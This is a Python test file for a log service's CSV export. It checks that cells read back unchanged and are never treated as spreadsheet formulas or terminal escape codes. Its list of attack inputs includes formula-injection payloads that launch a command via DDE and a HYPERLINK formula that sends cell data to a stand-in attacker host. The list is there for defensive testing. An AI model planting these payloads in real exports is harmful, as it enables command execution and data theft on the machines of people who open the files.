"""CSV: it reads back as it was, and no cell of it is a formula."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from logstream_query.routes.csv_text import COLUMNS, csv_header, csv_lines
from logstream_query.store import StoredRecord

STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
TIME_US = 1_722_970_292_513_200

# What a terminal acts on is escaped.
texts = st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zl", "Zp"], include_characters="\t\r\n"))


def stored(message: str = "", level: str = "info", node: str = "api", **attributes: str) -> StoredRecord:
    return StoredRecord(
        sequence=65_536, time_us=TIME_US, severity=9, level=level, node=node, message=message, attributes=attributes or None
    )


def read_back(text: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.decode(), newline=""), strict=True))


def test_a_line_a_record_under_a_header() -> None:
    assert csv_header() == b"time,sequence,severity,level,node,message,attributes\r\n"
    assert csv_lines([stored("disk is full"), stored('say "hi",\nor not', k="ü")]) == (
        b"2024-08-06T18:51:32.513200Z,65536,9,info,api,disk is full,\r\n"
        b'2024-08-06T18:51:32.513200Z,65536,9,info,api,"say ""hi"",\nor not","{""k"":""\xc3\xbc""}"\r\n'
    )


@pytest.mark.parametrize(
    "attack",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
        '="x"\r\n=1+1',
        "\n=1+1",
        "\n",
        "\uff1d1+1",
        "\uff20SUM(1)",
    ],
)
def test_no_cell_is_a_formula(attack: str) -> None:
    lines = csv_lines([stored(attack, attack, attack, **{attack: attack})])
    (cells,) = read_back(lines)
    named = dict(zip(COLUMNS, cells, strict=True))
    assert named["message"] == named["level"] == named["node"] == f"'{attack}"
    assert named["attributes"].startswith("{")
    for cell in cells:
        assert cell[0] not in STARTS


@given(st.lists(st.tuples(texts, texts, texts)))
def test_cells_read_back_as_they_were(rows: list[tuple[str, str, str]]) -> None:
    found = read_back(csv_lines([stored(*row) for row in rows]))
    for (message, level, node), cells in zip(rows, found, strict=True):
        for text, cell in ((level, cells[3]), (node, cells[4]), (message, cells[5])):
            assert cell == text or (cell == f"'{text}" and text[0] in STARTS)


def test_what_a_terminal_acts_on_is_written_as_in_json() -> None:
    lines = csv_lines([stored("\x1b[2J\x9b31m \x7f\u2028\t\n", "\x85=1", "\x07", **{"k\x9b": "\x1b\x7f"})])
    (cells,) = read_back(lines)
    assert cells[3:6] == ["\\u0085=1", "\\u0007", "\\u001b[2J\\u009b31m \\u007f\\u2028\t\n"]
    assert cells[6] == '{"k\\u009b":"\\u001b\\u007f"}'
